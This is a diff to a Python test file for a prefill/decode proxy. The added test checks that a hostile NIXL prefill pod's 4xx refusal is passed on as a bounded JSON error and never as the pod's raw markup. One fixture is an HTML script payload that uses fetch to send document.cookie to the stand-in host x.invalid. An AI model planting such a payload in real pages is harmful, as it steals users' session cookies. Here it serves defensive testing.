@@ -1,5 +1,4 @@
-"""Issue 19, items 3 and 9: what a hostile prefill pod inside the allow list can answer, per
-connector.
+"""What a hostile prefill pod inside the allow list can answer, per connector.
 
 NIXL v2 is the connector whose decode leg is built from the prefill's answer: its
 `kv_transfer_params` name the side channel (`remote_host`, `remote_port`) the decode connects
@@ -27,6 +26,7 @@ from aiohttp import web
 
 from pdproc.config import KvConnector
 from pdproc.targets import AllowList
+from tests.envoy_side import Outcome
 
 from .conftest import CHAT, CHAT_BYTES, Pd
 from .pods import Handler, HostilePod, engine_map
@@ -129,7 +129,7 @@ async def test_nixl_answer_the_decode_may_not_get_means_decode_alone(
 async def test_nixl_deeply_nested_answer_is_decode_alone_not_500(
     pod: HostilePod, make_pdproc: MakePd
 ) -> None:
-    """Item 9's reproduction: valid fields plus one nested deeper than orjson writes."""
+    """The reproduction: valid fields plus one nested deeper than orjson writes."""
     pod.on_prefill = nixl_answer(good_params(remote_prefill_cached_tokens=nested(300)))
     pd = await make_pdproc(pod, kv_connector=KvConnector.NIXLV2)
     outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
@@ -220,3 +220,65 @@ async def test_nixl_answer_without_params_is_decode_only_not_refused(
     assert (outcome.status, outcome.decode_body) == (200, CHAT_BYTES)
     assert pd.sample("pdproc_requests_total", outcome="decode_only") == 1
     assert pd.sample("pdproc_requests_total", outcome=REFUSED) == 0
+
+
+def nixl_refusal(status: int, body: bytes, content_type: str) -> Handler:
+    async def handler(_: web.Request) -> web.StreamResponse:
+        return web.Response(status=status, body=body, headers={"content-type": content_type})
+
+    return handler
+
+
+SCRIPT = b"<html><body><script>fetch('https://x.invalid/'+document.cookie)</script></body></html>"
+
+
+@pytest.mark.parametrize(
+    ("status", "body", "content_type", "said"),
+    [
+        (400, SCRIPT, "text/html", None),
+        (403, SCRIPT, "application/json", None),  # a lying content-type: not JSON, dropped
+        (422, orjson.dumps({"error": {"message": "x" * 50_000}}), "application/json", "xxx"),
+        (
+            400,
+            orjson.dumps({"object": "error", "message": "<script>1</script>"}),
+            "application/json",
+            "<script>1</script>",
+        ),
+    ],
+    ids=["html", "html-as-json", "huge-message", "markup-message"],
+)
+async def test_nixl_pod_refusal_is_a_bounded_json_error_never_its_body(
+    pod: HostilePod,
+    make_pdproc: MakePd,
+    status: int,
+    body: bytes,
+    content_type: str,
+    said: str | None,
+) -> None:
+    """A NIXL prefill's 4xx (the request's own fault) reaches the client with the pod's
+    status as an OpenAI-style JSON error: of the pod's body at most its JSON message,
+    quoted and cut to 256 characters; never its markup or its content-type."""
+    pod.on_prefill = nixl_refusal(status, body, content_type)
+    pd = await make_pdproc(pod, kv_connector=KvConnector.NIXLV2)
+    outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
+    assert (outcome.status, outcome.decode_body) == (status, None)  # the decode got nothing
+    assert_json_refusal(outcome, status, said)
+    counted = {o: pd.sample("pdproc_requests_total", outcome=o) for o in ("prefill_failed", "pd")}
+    assert counted == {"prefill_failed": 1, "pd": 0}
+
+
+def assert_json_refusal(outcome: Outcome, status: int, said: str | None) -> None:
+    assert outcome.error is not None, outcome.raw_error[:200]
+    expected_type = {400: "BadRequestError", 403: "PermissionDeniedError"}
+    assert outcome.error["type"] == expected_type.get(status, "UnprocessableEntityError")
+    assert outcome.error["code"] == status
+    assert len(outcome.raw_error) < 600
+    assert b"<html" not in outcome.raw_error
+    assert said is None or said in outcome.error["message"]
+    assert answered_content_type(outcome) == b"application/json"
+
+
+def answered_content_type(outcome: Outcome) -> bytes:
+    immediate = outcome.answers[-1].immediate_response
+    headers = {h.header.key: h.header.raw_value for h in immediate.headers.set_headers}
+    return headers["content-type"]
